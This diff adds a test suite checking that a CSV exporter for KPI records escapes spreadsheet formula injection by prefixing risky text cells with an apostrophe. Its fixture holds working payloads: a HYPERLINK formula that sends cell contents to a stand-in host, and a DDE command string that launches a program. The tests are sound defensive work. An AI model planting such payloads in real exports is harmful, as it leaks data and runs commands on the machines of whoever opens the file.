@@ -65,6 +65,28 @@ describe('toCsv', () => {
   })
 })
 
+describe('toCsv against formula injection', () => {
+  const hostile: Kpi = {
+    ...kpi,
+    name: { ja: '=HYPERLINK("http://example.invalid/?x="&A1,"詳細")', en: '-2+3' },
+    unit: { ja: "+cmd|'/C calc'!A0", en: null },
+    department: { ja: '@SUM(1+1)', en: null },
+    baseline: { fiscalYear: 2014, value: -5 },
+  }
+  const records = parse(toCsv(kpiCsvRows(hostile)), { bom: true, columns: true }) as Array<Record<string, string>>
+  it('prefixes text cells that a spreadsheet would run as a formula with an apostrophe', () => {
+    expect(records[0].kpi_name_ja).toBe(`'${hostile.name.ja}`)
+    expect(records[0].kpi_name_en).toBe("'-2+3")
+    expect(records[0].unit_ja).toBe(`'${hostile.unit.ja}`)
+    expect(records[0].department_ja).toBe("'@SUM(1+1)")
+  })
+  it('leaves numbers (negative ones too) and ordinary text as they are', () => {
+    expect(records[0].value).toBe('-5')
+    expect(records[0].fiscal_year).toBe('2014')
+    expect(records[0].kpi_key).toBe('kanko-kyaku')
+  })
+})
+
 describe('kpiJson', () => {
   it('adds the computed rating and the page URL to the record', () => {
     const json = kpiJson(kpi, 'https://example.jp/kpis/kanko-kyaku/')
